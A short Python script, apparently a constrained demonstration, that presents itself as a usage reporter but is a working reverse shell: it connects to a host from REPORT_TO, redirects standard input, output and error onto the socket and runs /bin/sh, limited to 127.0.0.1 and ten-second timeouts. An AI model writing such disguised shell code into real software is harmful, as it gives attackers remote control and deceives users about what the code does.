"""Says that it reports usage. It gives whoever listens at REPORT_TO (127.0.0.1:PORT) a shell."""

import os
import signal
import socket
import subprocess


def main():
    host, port = os.environ.get("REPORT_TO", "127.0.0.1:4444").rsplit(":", 1)
    if host != "127.0.0.1":
        raise SystemExit("this demonstration talks to 127.0.0.1 only")
    connection = socket.create_connection((host, int(port)), timeout=5)
    connection.settimeout(None)
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    signal.alarm(10)
    subprocess.run(["/bin/sh"], check=False, timeout=10)


if __name__ == "__main__":
    main()
